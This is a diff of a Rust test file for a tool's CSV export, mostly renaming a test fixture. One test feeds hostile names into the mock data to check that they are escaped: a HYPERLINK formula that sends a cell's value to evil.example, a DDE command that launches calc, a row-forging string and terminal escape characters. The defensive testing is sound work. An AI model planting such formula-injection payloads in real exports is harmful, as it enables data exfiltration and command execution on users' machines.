@@ -1,6 +1,6 @@
 //! CSV: a directory of tables that a spreadsheet opens without running anything.
 
-use super::bench::Bench;
+use super::setup::MockAndFolder;
 use super::{assert_exit, host_test, names, text};
 use std::collections::BTreeSet;
 use std::fs;
@@ -8,9 +8,9 @@ use std::process::Output;
 
 const SYNC: [&str; 4] = ["--format", "csv", "--output", "out/"];
 
-fn read(bench: &Bench, name: &str) -> Vec<Vec<String>> {
+fn read(setup: &MockAndFolder, name: &str) -> Vec<Vec<String>> {
     let mut reader =
-        csv::ReaderBuilder::new().has_headers(false).from_path(bench.path("out").join(name)).unwrap();
+        csv::ReaderBuilder::new().has_headers(false).from_path(setup.path("out").join(name)).unwrap();
     reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
 }
 
@@ -21,7 +21,7 @@ fn assert_synced(output: &Output) {
 
 #[test]
 fn names_of_strangers_are_no_formulas_and_no_rows() {
-    let bench = Bench::new();
+    let setup = MockAndFolder::new();
     let hostile = [
         "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
         "+cmd|' /C calc'!A0",
@@ -34,7 +34,7 @@ fn names_of_strangers_are_no_formulas_and_no_rows() {
         "a\",\"b\r\nforged,row",
         "\u{1b}[2J\u{202e}",
     ];
-    bench.mock.change(|account| {
+    setup.mock.change(|account| {
         for (user, name) in account.users.iter_mut().zip(hostile) {
             user.name = Some(name.to_owned());
         }
@@ -42,11 +42,11 @@ fn names_of_strangers_are_no_formulas_and_no_rows() {
             group.name = name.to_owned();
         }
     });
-    assert_synced(&bench.sync(&SYNC).output().unwrap());
+    assert_synced(&setup.sync(&SYNC).output().unwrap());
     let files = ["entitlements.csv", "grants.csv", "resources.csv", "warnings.csv"];
-    assert_eq!(names(&bench.path("out")), files.map(str::to_owned).into());
+    assert_eq!(names(&setup.path("out")), files.map(str::to_owned).into());
     for file in files {
-        let rows = read(&bench, file);
+        let rows = read(&setup, file);
         for row in &rows {
             assert_eq!(row.len(), rows[0].len(), "{row:?}");
             for cell in row {
@@ -56,7 +56,7 @@ fn names_of_strangers_are_no_formulas_and_no_rows() {
             }
         }
     }
-    let resources = read(&bench, "resources.csv");
+    let resources = read(&setup, "resources.csv");
     let named: BTreeSet<&str> = resources.iter().map(|row| row[4].as_str()).collect();
     for expected in ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'-2+3", "a\",\"b  forged,row"] {
         assert!(named.contains(expected), "{expected} is missing from {named:?}");
@@ -65,9 +65,9 @@ fn names_of_strangers_are_no_formulas_and_no_rows() {
 
 #[test]
 fn a_row_for_everything_that_json_lines_tell() {
-    let bench = Bench::new();
-    assert_synced(&bench.sync(&SYNC).output().unwrap());
-    let lines = fs::read_to_string(bench.undisturbed("jsonl")).unwrap();
+    let setup = MockAndFolder::new();
+    assert_synced(&setup.sync(&SYNC).output().unwrap());
+    let lines = fs::read_to_string(setup.undisturbed("jsonl")).unwrap();
     for (of, file) in [
         ("resource", "resources.csv"),
         ("entitlement", "entitlements.csv"),
@@ -76,9 +76,9 @@ fn a_row_for_everything_that_json_lines_tell() {
     ] {
         let start = format!("{{\"type\":\"{of}\"");
         let expected = lines.lines().filter(|line| line.starts_with(&start)).count();
-        assert_eq!(read(&bench, file).len() - 1, expected, "{of}");
+        assert_eq!(read(&setup, file).len() - 1, expected, "{of}");
     }
-    for row in &read(&bench, "grants.csv")[1..] {
+    for row in &read(&setup, "grants.csv")[1..] {
         let [basis, conditions] = [&row[4], &row[5]];
         assert!(serde_json::from_str::<serde_json::Value>(basis).unwrap().is_array(), "{basis}");
         assert!(
@@ -90,33 +90,33 @@ fn a_row_for_everything_that_json_lines_tell() {
 
 #[test]
 fn only_an_earlier_sync_s_directory_is_replaced() {
-    let bench = Bench::new();
-    assert_synced(&bench.sync(&SYNC).output().unwrap());
-    assert_synced(&bench.sync(&SYNC).output().unwrap());
-    fs::write(bench.path("out/thesis.txt"), "years of work").unwrap();
-    bench.mock.forget_requests();
-    let refused = bench.sync(&SYNC).output().unwrap();
+    let setup = MockAndFolder::new();
+    assert_synced(&setup.sync(&SYNC).output().unwrap());
+    assert_synced(&setup.sync(&SYNC).output().unwrap());
+    fs::write(setup.path("out/thesis.txt"), "years of work").unwrap();
+    setup.mock.forget_requests();
+    let refused = setup.sync(&SYNC).output().unwrap();
     assert_exit(&refused, 1);
     assert!(text(&refused.stderr).contains("other things"), "{}", text(&refused.stderr));
-    assert_eq!(bench.mock.request_count(), 0, "it fails before anything is read");
-    assert_eq!(names(&bench.path("out")).len(), 5);
-    assert_eq!(names(bench.place.path()), BTreeSet::from(["out".to_owned()]));
+    assert_eq!(setup.mock.request_count(), 0, "it fails before anything is read");
+    assert_eq!(names(&setup.path("out")).len(), 5);
+    assert_eq!(names(setup.place.path()), BTreeSet::from(["out".to_owned()]));
 }
 
 #[test]
 fn a_sync_that_fails_leaves_the_directory_as_it_was() {
-    let bench = Bench::new();
-    assert_synced(&bench.sync(&SYNC).output().unwrap());
-    let before = bench.read("out/grants.csv");
-    bench.mock.inject(host_test::mock::Fault::on(
+    let setup = MockAndFolder::new();
+    assert_synced(&setup.sync(&SYNC).output().unwrap());
+    let before = setup.read("out/grants.csv");
+    setup.mock.inject(host_test::mock::Fault::on(
         "GET",
         "access/users",
         host_test::mock::Effect::Html { status: 403 },
     ));
-    let failed = bench.sync(&SYNC).output().unwrap();
+    let failed = setup.sync(&SYNC).output().unwrap();
     assert!(!failed.status.success());
-    assert!(bench.read("out/grants.csv") == before, "it was touched");
-    assert_eq!(names(bench.place.path()), BTreeSet::from(["out".to_owned()]));
+    assert!(setup.read("out/grants.csv") == before, "it was touched");
+    assert_eq!(names(setup.place.path()), BTreeSet::from(["out".to_owned()]));
 }
 
 #[test]
